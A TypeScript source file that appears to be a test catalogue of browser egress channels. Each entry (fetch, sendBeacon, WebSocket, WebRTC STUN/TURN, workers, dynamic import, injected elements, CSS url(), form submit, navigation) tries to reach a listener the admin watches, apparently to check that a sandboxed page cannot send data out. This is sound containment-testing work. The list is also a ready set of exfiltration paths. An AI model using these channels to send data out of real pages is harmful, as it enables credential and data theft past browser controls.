/*
 * Ways by which a script of a page could send something, tried by the page "Prove it" towards a
 * listener that the admin watches. The longer list, which tests try in panel and worker, is
 * test/e2e/channels.ts. Names are taken by hand, because most of them are not there any more.
 */

/** A way out: what developers call it, and an attempt that ends or fails. */
export interface Channel {
  readonly name: string;
  /** Gives `true` when it is known that something went out. `to`: "192.0.2.7:9000". */
  attempt(to: string, view: Window): unknown;
}

/** Thrown where the name is not there. */
export class Absent extends Error {}

const PATH = '/update-credentials-proof';

/** A global by its name. Fails with `Absent` where it was taken away. */
function there(view: object, name: string): (...args: readonly unknown[]) => unknown {
  const found: unknown = Reflect.get(view, name);
  if (typeof found !== 'function') throw new Absent(name);
  return found as (...args: readonly unknown[]) => unknown;
}

/** Makes an instance of a global, which connects by itself. */
const made = (name: string, address: (to: string) => string): Channel => ({
  name,
  attempt: (to, view) => void Reflect.construct(there(view, name), [address(to)]),
});

/** An element that loads its address, put into the page for a moment. */
const element = (
  tag: string,
  attributes: (address: string) => Readonly<Record<string, string>>,
): Channel => ({
  name: `<${tag} ${Object.keys(attributes('')).join(' ')}>`,
  attempt(to, { document }) {
    const loading = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes(`http://${to}${PATH}`)))
      loading.setAttribute(name, value);
    document.body.append(loading);
    loading.remove();
  },
});

const webRtc = (name: string, server: (to: string) => object): Channel => ({
  name,
  async attempt(to, view) {
    const peer = Reflect.construct(there(view, 'RTCPeerConnection'), [{ iceServers: [server(to)] }]) as {
      createDataChannel(label: string): void;
      createOffer(): Promise<unknown>;
      setLocalDescription(offer: unknown): Promise<void>;
    };
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
});

const http = (to: string) => `http://${to}${PATH}`;

export const CHANNELS: readonly Channel[] = [
  {
    name: 'fetch',
    attempt: async (to, view) => {
      await (there(view, 'fetch').call(view, http(to), { mode: 'no-cors' }) as Promise<unknown>);
      return true;
    },
  },
  {
    name: 'XMLHttpRequest',
    attempt(to, view) {
      const request = Reflect.construct(there(view, 'XMLHttpRequest'), []) as XMLHttpRequest;
      request.open('GET', http(to));
      request.send();
    },
  },
  {
    name: 'sendBeacon',
    attempt: (to, view) => there(view.navigator, 'sendBeacon').call(view.navigator, http(to), 'x') === true,
  },
  made('WebSocket', (to) => `ws://${to}${PATH}`),
  made('EventSource', http),
  made('WebTransport', (to) => `https://${to}${PATH}`),
  webRtc('WebRTC, STUN (UDP)', (to) => ({ urls: `stun:${to}` })),
  webRtc('WebRTC, TURN (UDP)', (to) => ({ urls: `turn:${to}`, username: 'u', credential: 'p' })),
  webRtc('WebRTC, TURN (TCP)', (to) => ({
    urls: `turn:${to}?transport=tcp`,
    username: 'u',
    credential: 'p',
  })),
  made('Worker', http),
  made('SharedWorker', http),
  { name: 'import()', attempt: (to) => import(/* @vite-ignore */ http(to)) },
  { name: 'FontFace', attempt: (to) => new FontFace('x', `url(${http(to)})`).load() },
  element('img', (src) => ({ src })),
  element('video', (src) => ({ src, preload: 'auto' })),
  element('audio', (src) => ({ src, preload: 'auto' })),
  element('iframe', (src) => ({ src })),
  element('object', (data) => ({ data })),
  element('embed', (src) => ({ src })),
  element('script', (src) => ({ src })),
  element('link', (href) => ({ rel: 'stylesheet', href })),
  element('link', (href) => ({ href, rel: 'preconnect' })),
  element('meta', (address) => ({ 'http-equiv': 'refresh', content: `0; url=${address}` })),
  {
    name: 'style, url()',
    attempt(to, { document }) {
      document.body.style.setProperty('--way', `url(${http(to)})`);
      document.body.style.backgroundImage = 'var(--way)';
      document.body.style.backgroundImage = '';
    },
  },
  {
    name: 'form.submit()',
    attempt(to, { document }) {
      const form = document.createElement('form');
      form.setAttribute('action', http(to));
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      form.remove();
    },
  },
  { name: 'window.open', attempt: (to, view) => there(view, 'open').call(view, http(to)) !== null },
  { name: 'location.assign', attempt: (to, { location }) => location.assign(http(to)) },
  {
    name: 'link.click()',
    attempt(to, { document }) {
      const link = document.createElement('a');
      link.href = http(to);
      link.click();
    },
  },
];
